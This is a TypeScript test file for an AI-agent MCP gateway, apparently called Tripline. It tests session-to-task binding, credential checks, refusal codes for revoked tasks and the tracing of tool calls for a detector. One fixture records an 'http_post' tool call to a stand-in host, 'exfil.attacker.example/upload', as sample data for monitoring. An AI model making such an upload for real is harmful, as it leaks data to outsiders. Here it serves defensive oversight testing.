import { describe, expect, it } from 'vitest';
import { classifyRequest } from '../../../services/core/classify.ts';
import { InvalidCredential, TaskStartRefused, verdictOf } from '../../../services/mcp-gateway/authority.ts';
import type { McpAuthority, TaskIdentity, Verdict } from '../../../services/mcp-gateway/authority.ts';
import type { ClientBinding } from '../../../services/mcp-gateway/config.ts';
import { CallGuard, sideEffectOfAnnotations } from '../../../services/mcp-gateway/guard.ts';
import type { GuardedCall } from '../../../services/mcp-gateway/messages.ts';
import { BoundSessions } from '../../../services/mcp-gateway/sessions.ts';
import type { SpanSink } from '../../../services/mcp-gateway/span-sink.ts';
import { callSpan, taskEndSpan, taskTraceId, traceRequest } from '../../../services/mcp-gateway/spans.ts';
import type { OtlpSpan } from '../../../schemas/otlp.ts';
import { createLogger } from '../../../services/shared/logger.ts';

const BINDING: ClientBinding = {
  name: 'desk',
  token: 'desk-client-token-0123456789abcdef',
  tenant: 'default',
  agentId: 'desk-assistant',
  taskType: 'support',
  tools: [],
  resources: [],
  scopes: [],
};
const TASK_TOKEN = 'aaaa.bbbb.cccc';

/** An authority that starts numbered tasks, knows one task token and refuses what `refuse` names. */
function fakeAuthority(clock: { now: number }, refuse: { tools?: Verdict; start?: TaskStartRefused } = {}) {
  const started: { conversation: string; taskId?: string }[] = [];
  const identity = (taskId: string, token: string): TaskIdentity => ({
    tenant: 'default',
    agentId: BINDING.agentId,
    taskId,
    taskType: BINDING.taskType,
    token,
    expiresAtMs: clock.now + 900_000,
  });
  const authority: McpAuthority = {
    verify(token) {
      if (token !== TASK_TOKEN) return Promise.reject(new InvalidCredential('signature verification failed'));
      return Promise.resolve({ ...identity('task-from-token', token), agentId: 'coder' });
    },
    checkTool: () => Promise.resolve(refuse.tools ?? { allowed: true, decisionId: 'd1' }),
    checkRead: () => Promise.resolve({ allowed: true }),
    startTask(_binding, context) {
      started.push(context);
      if (refuse.start !== undefined) return Promise.reject(refuse.start);
      return Promise.resolve(
        identity(context.taskId ?? `bound-${String(started.length)}`, `token-${String(started.length)}`),
      );
    },
  };
  return { authority, started };
}

function collectingSink(): SpanSink & { spans: OtlpSpan[] } {
  const spans: OtlpSpan[] = [];
  return { spans, emit: (_tenant, span) => spans.push(span), flush: () => Promise.resolve() };
}

const call = (name: string, args: unknown = {}): GuardedCall => ({
  id: 1,
  method: 'tools/call',
  name,
  arguments: args,
  traceparent: undefined,
});
const context = { upstream: 'shop', sessionId: 's1', protocolVersion: '2025-11-25' };

describe('BoundSessions', () => {
  it('starts one task per session (concurrent first calls share it), renews its token, ends it idle or on DELETE', async () => {
    const clock = { now: 1_000_000 };
    const { authority, started } = fakeAuthority(clock);
    const sessions = new BoundSessions(authority, 60_000, () => clock.now);
    const [a, b] = await Promise.all([sessions.task(BINDING, 'shop', 's1'), sessions.task(BINDING, 'shop', 's1')]);
    expect(a.taskId).toBe('bound-1');
    expect(b).toBe(a);
    expect((await sessions.task(BINDING, 'shop', 's2')).taskId).toBe('bound-2');
    expect((await sessions.task(BINDING, 'shop', undefined)).taskId).toBe('bound-3');
    expect(started[0]).toEqual({ conversation: 'mcp:shop:s1' });
    expect(started[2]).toEqual({ conversation: 'mcp:shop:desk' });

    clock.now += 900_000 - 30_000; // the token expires in 30 s: renewed for the same task
    const renewed = await sessions.task(BINDING, 'shop', 's1');
    expect(renewed.taskId).toBe('bound-1');
    expect(started.at(-1)).toEqual({ conversation: 'mcp:shop:s1', taskId: 'bound-1' });

    const ended = await sessions.end(BINDING, 'shop', 's2');
    expect(ended?.identity.taskId).toBe('bound-2');
    clock.now += 60_001;
    await sessions.task(BINDING, 'shop', 's1');
    const idle = await sessions.sweep();
    expect(idle.map((end) => end.identity.taskId)).toEqual(['bound-3']);
    expect(sessions.size).toBe(1);
  });

  it('keeps a refused renewal (a revoked task) refusing until the session ends; a refused first start is asked again', async () => {
    const clock = { now: 0 };
    const refusal = new TaskStartRefused('TASK_REVOKED', 'task bound-1 is revoked');
    const { authority } = fakeAuthority(clock, { start: refusal });
    const sessions = new BoundSessions(authority, 60_000, () => clock.now);
    await expect(sessions.task(BINDING, 'shop', 's1')).rejects.toBe(refusal);
    expect(sessions.size).toBe(0);
  });

  it('keeps a session refusing once its renewal was refused, but asks again when Tripline could not be asked', async () => {
    const clock = { now: 0 };
    let renewal: TaskStartRefused | undefined;
    const { authority } = fakeAuthority(clock);
    const startTask = authority.startTask.bind(authority);
    authority.startTask = (binding, context) =>
      context.taskId !== undefined && renewal !== undefined ? Promise.reject(renewal) : startTask(binding, context);
    const sessions = new BoundSessions(authority, 3_600_000, () => clock.now);
    const first = await sessions.task(BINDING, 'shop', 's1');
    clock.now = first.expiresAtMs - 1000;
    renewal = new TaskStartRefused('TASK_START_FAILED', 'the API did not answer');
    await expect(sessions.task(BINDING, 'shop', 's1')).rejects.toBe(renewal);
    renewal = undefined;
    expect((await sessions.task(BINDING, 'shop', 's1')).taskId).toBe(first.taskId);
    clock.now = first.expiresAtMs + 900_000 - 1000;
    const revoked = new TaskStartRefused('TASK_REVOKED', `task ${first.taskId} is revoked`);
    renewal = revoked;
    await expect(sessions.task(BINDING, 'shop', 's1')).rejects.toBe(revoked);
    renewal = undefined;
    await expect(sessions.task(BINDING, 'shop', 's1')).rejects.toBe(revoked);
  });
});

describe('CallGuard', () => {
  const logger = createLogger('silent');

  function guardWith(refuse: Parameters<typeof fakeAuthority>[1] = {}) {
    const clock = { now: 5_000_000 };
    const { authority } = fakeAuthority(clock, refuse);
    const sink = collectingSink();
    const sessions = new BoundSessions(authority, 60_000, () => clock.now);
    return {
      guard: new CallGuard({ authority, sessions, sink, bindings: [BINDING], logger, now: () => clock.now }),
      sink,
    };
  }

  it('tells a bound client, a task token, a bad token and no token apart', async () => {
    const { guard } = guardWith();
    expect(await guard.credential(`Bearer ${BINDING.token}`)).toMatchObject({
      ok: true,
      principal: { kind: 'bound', owner: 'client:desk' },
    });
    expect(await guard.credential(`bearer ${TASK_TOKEN}`)).toMatchObject({
      ok: true,
      principal: { kind: 'task', owner: 'task:default/task-from-token' },
    });
    expect(await guard.credential('Bearer x.y.z')).toEqual({
      ok: false,
      missing: false,
      reason: 'signature verification failed',
    });
    expect(await guard.credential('Bearer some-other-token-of-any-kind')).toMatchObject({ ok: false, missing: false });
    expect(await guard.credential(null)).toMatchObject({ ok: false, missing: true });
    expect(await guard.credential('Basic dXNlcg==')).toMatchObject({ ok: false, missing: true });
  });

  it('admits an allowed call with its side effect; refuses with a JSON-RPC error saying why', async () => {
    const allowed = guardWith();
    allowed.guard.learnTools('shop', {
      tools: [
        { name: 'get_order', annotations: { readOnlyHint: true } },
        { name: 'refund', annotations: { destructiveHint: false } },
      ],
    });
    const principal = { kind: 'bound', binding: BINDING, owner: 'client:desk' } as const;
    expect(await allowed.guard.admit(principal, call('get_order'), context)).toMatchObject({
      ok: true,
      sideEffect: 'read',
      identity: { taskId: 'bound-1' },
    });
    expect(allowed.guard.sideEffectOf('shop', 'refund')).toBe('write');
    expect(allowed.guard.sideEffectOf('shop', 'never_listed')).toBeUndefined();

    const refused = guardWith({
      tools: {
        allowed: false,
        code: 'TASK_REVOKED',
        reasons: ['task bound-1 is revoked by the detector (score)'],
        decisionId: 'd9',
      },
    });
    const admission = await refused.guard.admit(principal, call('get_order'), context);
    expect(admission).toEqual({
      ok: false,
      code: 'TASK_REVOKED',
      taskId: 'bound-1',
      error: {
        jsonrpc: '2.0',
        id: 1,
        error: {
          code: -32010,
          message: 'Tripline refused the call of get_order: task bound-1 is revoked by the detector (score)',
          data: {
            code: 'TASK_REVOKED',
            reasons: ['task bound-1 is revoked by the detector (score)'],
            taskId: 'bound-1',
            decisionId: 'd9',
          },
        },
      },
    });

    const blocked = guardWith({ start: new TaskStartRefused('AGENT_BLOCKED', 'agent desk-assistant is blocked') });
    expect(await blocked.guard.admit(principal, call('get_order'), context)).toMatchObject({
      ok: false,
      code: 'AGENT_BLOCKED',
      error: { error: { data: { code: 'AGENT_BLOCKED' } } },
    });
  });

  it("takes MCP's annotation defaults: not read-only and not said otherwise is destructive", () => {
    expect(sideEffectOfAnnotations({ readOnlyHint: true })).toBe('read');
    expect(sideEffectOfAnnotations({ destructiveHint: false })).toBe('write');
    expect(sideEffectOfAnnotations(undefined)).toBe('destructive');
  });

  it('reads the refusal code from what the check answered', () => {
    const base = { decisionId: 'd', policies: [] };
    const task = { taskId: 't', taskType: 'x', agentId: 'a', status: 'active' as const, score: 0, revoked: false };
    expect(verdictOf({ ...base, allowed: true, decision: 'allow', reasons: [] })).toEqual({
      allowed: true,
      decisionId: 'd',
    });
    expect(verdictOf({ ...base, allowed: false, decision: 'deny', reasons: ['task t is revoked'] })).toMatchObject({
      code: 'TASK_REVOKED',
    });
    expect(
      verdictOf({ ...base, allowed: false, decision: 'deny', reasons: ['agent a is escalated until …'], task }),
    ).toMatchObject({ code: 'AGENT_BLOCKED' });
    expect(verdictOf({ ...base, allowed: false, decision: 'deny', reasons: ['forbidden by x'], task })).toMatchObject({
      code: 'POLICY_DENIED',
    });
    expect(
      verdictOf({ ...base, allowed: false, decision: 'deny', reasons: ['the token is no longer active'] }),
    ).toMatchObject({ code: 'TOKEN_INVALID' });
  });
});

describe("the gateway's spans, through Tripline's classification", () => {
  const identity: TaskIdentity = {
    tenant: 'acme',
    agentId: 'desk-assistant',
    taskId: 'task-1',
    taskType: 'support',
    token: 't',
    expiresAtMs: 0,
  };

  it('a tools/call is a tool call of the task, its target read from the arguments', () => {
    const span = callSpan({
      identity,
      upstream: 'shop',
      call: {
        ...call('http_post', { url: 'https://exfil.attacker.example/upload', body: 'x' }),
        traceparent: { traceId: 'ab'.repeat(16), spanId: 'cd'.repeat(8), sampled: true },
      },
      outcome: { errorType: undefined, result: '{"content":[{"type":"text","text":"posted"}]}' },
      sideEffect: 'write',
      sessionId: 's1',
      protocolVersion: '2025-11-25',
      startMs: 1_700_000_000_000,
      endMs: 1_700_000_000_012.5,
    });
    expect(span.traceId).toBe('ab'.repeat(16));
    expect(span.parentSpanId).toBe('cd'.repeat(8));
    const batch = classifyRequest(traceRequest([span]), 'acme', { storeToolContent: true });
    expect(batch.events).toHaveLength(1);
    const [event] = batch.events;
    expect(event).toMatchObject({
      kind: 'tool_call',
      tenant: 'acme',
      taskId: 'task-1',
      taskType: 'support',
      agentId: 'desk-assistant',
      error: false,
      endMs: 1_700_000_000_012.5,
      tool: { name: 'http_post', sideEffect: 'write', target: 'https://exfil.attacker.example/upload' },
    });
    expect(event?.attributes['gen_ai.tool.call.result']).toContain('posted');
  });

  it('a resources/read is a data access; a failed call is an error; a session end ends the task', () => {
    const read = callSpan({
      identity,
      upstream: 'files',
      call: {
        id: 2,
        method: 'resources/read',
        name: 'file:///etc/app.conf',
        arguments: undefined,
        traceparent: undefined,
      },
      outcome: { errorType: '-32602', result: undefined },
      sideEffect: undefined,
      sessionId: undefined,
      protocolVersion: undefined,
      startMs: 1,
      endMs: 2,
    });
    expect(read.traceId).toBe(taskTraceId(identity));
    const end = taskEndSpan(identity, 'files', 0, 3);
    const batch = classifyRequest(traceRequest([read, end]), 'acme');
    expect(batch.events).toMatchObject([
      { kind: 'data_access', error: true, errorType: '-32602', data: { resource: 'file:///etc/app.conf' } },
    ]);
    expect(batch.boundaries).toMatchObject([
      { ends: true, claims: { taskId: 'task-1', taskType: 'support', agentId: 'desk-assistant' } },
    ]);
  });
});
